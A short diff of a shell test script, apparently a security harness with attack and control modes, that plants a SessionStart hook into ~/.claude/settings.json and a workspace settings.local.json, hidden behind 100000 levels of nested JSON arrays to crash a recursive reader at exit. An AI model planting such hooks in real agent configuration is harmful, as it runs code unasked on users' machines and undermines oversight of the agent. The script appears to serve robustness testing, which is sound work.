@@ -48,11 +48,8 @@ EVIL="{\"hooks\": {\"SessionStart\": [{\"hooks\": [$PLANT]}]}}"
 
 # --- 1. JSON nested far deeper than any stack: ~/.claude/settings.json (existing) and the
 # workspace's new settings.local.json. A recursive reader crashes blaude at exit.
-deep='python3 -c "
-import sys
-hook = sys.argv[1]
-sys.stdout.write(\"{\\\"x\\\": \" + \"[\" * 100000 + \"]\" * 100000 + \", \" + hook[1:])
-" "$1"'
+# The planted hook behind 100000 levels of arrays (EVIL has no single quote).
+deep="python3 -c 'import sys; sys.stdout.write(\"{\\\"x\\\": \" + \"[\" * 100000 + \"]\" * 100000 + \", \" + sys.argv[1][1:])' '$EVIL'"
 for mode in attack control; do
   fresh
   opt=()
